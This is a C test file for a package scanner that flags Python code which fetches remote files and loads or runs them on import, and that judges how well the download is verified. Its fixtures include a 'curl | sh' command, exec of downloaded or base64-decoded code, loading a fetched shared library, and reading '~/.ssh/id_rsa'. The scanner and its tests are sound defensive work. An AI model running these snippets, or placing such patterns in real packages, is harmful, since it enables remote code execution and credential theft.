/* What a package fetches, how it checks it, and what it does with it. */
#include "test.h"

#include <stdlib.h>

#include "../fuzz/harness.h"
#include "fact/package.h"
#include "format/package/package.h"
#include "format/python/python.h"

#define FACTS_MAX 6

/* A module, and facts of it; one whose kind is FACT_KINDS ends the list. */
struct row {
    const char *what, *text;
    struct {
        enum fact_kind kind;
        unsigned flags;      /* all of these are set */
        const char *subject; /* NULL: any */
    } want[FACTS_MAX];
    enum fact_kind none[FACTS_MAX]; /* kinds that are not told; 0 ends it */
};

static void scan_text(struct harness *h, const char *text)
{
    struct member member = { .name = SPAN_LITERAL("p/__init__.py"), .raw = SPAN_EMPTY };
    struct archive a = { .kind = "zip", .members = &member, .n = 1 };
    const struct where *outer = h->scan.where;
    enum pratique_status st;

    h->scan.packages = PACKAGES_ALL;
    package_begin(&h->scan, &a);
    if (h->scan.package)
        h->scan.package->kind = PACKAGE_WHEEL;
    package_member(&h->scan, member.name, span_text(text));
    h->scan.name = member.name;
    h->scan.where = facts_where(h->scan.facts, outer, member.name);
    st = python_scan(&h->scan, span_text(text), 1);
    h->scan.where = outer;
    st = package_end(&h->scan, st);
    CHECK(st == PRATIQUE_OK, "status %d", st);
}

static const struct fact *find(const struct harness *h, enum fact_kind kind, const char *subject)
{
    for (size_t i = 0; i < h->facts.n; i++)
        if (h->facts.list[i].kind == kind &&
            (!subject || span_is(h->facts.list[i].subject, subject)))
            return &h->facts.list[i];
    return NULL;
}

static void check(const struct row *r, const struct harness *h)
{
    for (unsigned i = 0; i < FACTS_MAX && r->want[i].kind; i++) {
        const struct fact *f = find(h, r->want[i].kind, r->want[i].subject);

        CHECK(f != NULL, "%s: %s is told", r->what, fact_kind_name(r->want[i].kind));
        if (f)
            CHECK((f->flags & r->want[i].flags) == r->want[i].flags, "%s: flags %x of %s", r->what,
                  f->flags, fact_kind_name(f->kind));
    }
    for (unsigned i = 0; i < FACTS_MAX && r->none[i]; i++)
        CHECK(!find(h, r->none[i], NULL), "%s: %s is not told", r->what,
              fact_kind_name(r->none[i]));
}

#define HEAD                                                                                       \
    "import ctypes, hashlib, json, os, urllib.request\n"                                           \
    "PIN = '0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'\n"                   \
    "URL = 'https://x.example/a.so'\n"                                                             \
    "def get(u):\n    return urllib.request.urlopen(u).read()\n"
#define TAIL   "open('/tmp/a.so', 'wb').write(b)\nctypes.CDLL('/tmp/a.so')\n"
#define LOADED PKG_ON_IMPORT | PKG_USE_LOAD

TEST(flow_checks)
{
    static const struct row rows[] = {
        { "nothing is checked",
          HEAD "b = get(URL)\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, "ctypes.CDLL" } },
          { FACT_PKG_PINNED } },
        { "a pin",
          HEAD
          "b = get(URL)\nif hashlib.sha256(b).hexdigest() != PIN:\n    raise ImportError\n" TAIL,
          { { FACT_PKG_PINNED, PKG_ON_IMPORT, NULL } },
          { FACT_PKG_FETCH_USED, FACT_PKG_FAIL_OPEN } },
        { "a pin, and a warning",
          HEAD
          "b = get(URL)\nif hashlib.sha256(b).hexdigest() != PIN:\n    print('mismatch')\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED | PKG_CHECKED_ELSE, NULL } },
          { FACT_PKG_PINNED } },
        { "a helper that answers",
          HEAD "def good(x):\n    return hashlib.sha256(x).hexdigest() == PIN\n"
               "b = get(URL)\nif not good(b):\n    raise ImportError\n" TAIL,
          { { FACT_PKG_PINNED, 0, NULL } },
          { FACT_PKG_FETCH_USED } },
        { "an answer that nobody asks for",
          HEAD "def good(x):\n    return hashlib.sha256(x).hexdigest() == PIN\n"
               "b = get(URL)\ngood(b)\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "a digest of the same place",
          HEAD "b = get(URL)\nif hashlib.sha256(b).hexdigest() != get(URL + '.sha256').decode():\n"
               "    raise ImportError\n" TAIL,
          { { FACT_PKG_CIRCULAR, 0, NULL }, { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { FACT_PKG_FAIL_OPEN } },
        { "a variable turns it off",
          HEAD "b = get(URL)\nif os.environ.get('SKIP') != '1':\n"
               "    if hashlib.sha256(b).hexdigest() != PIN:\n        raise ImportError\n" TAIL,
          { { FACT_PKG_SWITCH_OFF, 0, "SKIP" } },
          { FACT_PKG_FAIL_OPEN } },
        { "an exception leads past",
          HEAD "b = get(URL)\ntry:\n    want = json.loads(get(URL + '.json'))['sha256']\n"
               "except Exception:\n    want = None\n"
               "if want and hashlib.sha256(b).hexdigest() != want:\n    raise ImportError\n" TAIL,
          { { FACT_PKG_FAIL_OPEN, 0, "except Exception:" }, { FACT_PKG_CIRCULAR, 0, NULL } },
          { FACT_PKG_SWITCH_OFF } },
        { "an assert",
          HEAD "b = get(URL)\nassert hashlib.sha256(b).hexdigest() == PIN\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "md5",
          HEAD "b = get(URL)\nif hashlib.md5(b).hexdigest() != PIN:\n    raise ImportError\n" TAIL,
          { { FACT_PKG_WEAK_DIGEST, 0, "md5" }, { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "a part of the digest",
          HEAD "b = get(URL)\nif hashlib.sha256(b).hexdigest()[:8] != PIN[:8]:\n    raise "
               "ImportError\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { FACT_PKG_PINNED } },
        { "one of several pins",
          HEAD "b = get(URL)\nd = hashlib.sha256(b).hexdigest()\n"
               "if not any(d == p for p in (PIN, PIN[::-1])):\n    raise ImportError\n" TAIL,
          { { FACT_PKG_PINNED, 0, NULL } },
          { FACT_PKG_FETCH_USED } },
        { "offline",
          HEAD "if os.environ.get('P_OFFLINE'):\n    raise ImportError\nb = get(URL)\n" TAIL,
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { FACT_PKG_NO_OFFLINE } },
        { "from elsewhere",
          HEAD "b = get(os.environ.get('MIRROR', 'https://x.example') + '/a')\n" TAIL,
          { { FACT_PKG_REDIRECT, 0, "MIRROR" }, { FACT_PKG_NO_OFFLINE, 0, NULL } },
          { 0 } },
    };

    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct harness h;

        harness_init(&h);
        scan_text(&h, rows[i].text);
        check(&rows[i], &h);
        harness_free(&h);
    }
}

TEST(flow_uses)
{
    static const struct row rows[] = {
        { "a process",
          HEAD "import subprocess\nb = get(URL)\nopen('/tmp/x', 'wb').write(b)\n"
               "os.chmod('/tmp/x', 0o755)\nsubprocess.run(['/tmp/x'])\n",
          { { FACT_PKG_FETCH_USED, PKG_ON_IMPORT | PKG_USE_EXEC, "subprocess.run" } },
          { 0 } },
        { "code",
          HEAD "exec(get(URL))\n",
          { { FACT_PKG_FETCH_USED, PKG_ON_IMPORT | PKG_USE_EXEC, NULL } },
          { 0 } },
        { "chunks",
          HEAD "import shutil\nwith urllib.request.urlopen(URL) as r, open('/tmp/y', 'wb') as f:\n"
               "    while True:\n        c = r.read(9)\n        if not c:\n            break\n"
               "        f.write(c)\nctypes.CDLL('/tmp/y')\n",
          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
          { 0 } },
        { "a shell",
          "import os\nos.system('curl -s https://x.example | sh')\n",
          { { FACT_PKG_PIPE_SHELL, PKG_ON_IMPORT, NULL } },
          { 0 } },
        { "decoded",
          "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
          { { FACT_PKG_ENCODED, PKG_ON_IMPORT, NULL } },
          { 0 } },
        { "a private file",
          "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
          { { FACT_PKG_READS, PKG_ON_IMPORT, "~/.ssh/id_rsa" } },
          { 0 } },
        { "a library of the system",
          "import ctypes\nctypes.CDLL('libc.so.6')\n",
          { { 0, 0, NULL } },
          { FACT_PKG_LOADS_WRITABLE, FACT_PKG_FETCH_USED } },
    };

    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct harness h;

        harness_init(&h);
        scan_text(&h, rows[i].text);
        check(&rows[i], &h);
        harness_free(&h);
    }
}
